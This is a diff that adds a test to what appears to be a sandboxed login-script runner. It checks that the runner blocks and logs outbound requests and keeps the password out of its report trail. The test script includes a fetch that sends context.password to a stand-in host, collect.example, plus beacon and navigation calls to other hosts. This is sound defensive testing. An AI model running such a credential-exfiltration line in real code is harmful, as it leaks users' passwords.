@@ -225,6 +225,21 @@ describe('a reading that fails', () => {
     )
   })
 
+  it('shows what its script tried to reach, also when it went well', async () => {
+    const tries = `fetch('https://collect.example/?p=' + context.password).catch(() => 0); new Image().src = '${other.url}/x'
+      await page.goto('https://elsewhere.example/').catch(() => 0); await new Promise((done) => setTimeout(done, 300))`
+    const good = createTestSessions({ script: listScript(tries), loginUrl: bank.url })
+    expect(await good.read()).toMatchObject({ status: 'success' })
+    expect(good.lastRun().run.refusedHosts).toEqual({ 'collect.example': 1, [other.host]: 2 })
+
+    const bad = createTestSessions({ script: `${tries}; throw new Error('no more')`, loginUrl: bank.url })
+    await bad.read()
+    const trail = JSON.stringify(bad.lastRun().report?.trail)
+    expect(trail).toContain('collect.example')
+    expect(trail).toContain('elsewhere.example:443')
+    expect(trail).not.toContain(testCredentials.password)
+  })
+
   it('says what is missing without opening a browser', async () => {
     const opened: string[] = []
     const browser = async () => {
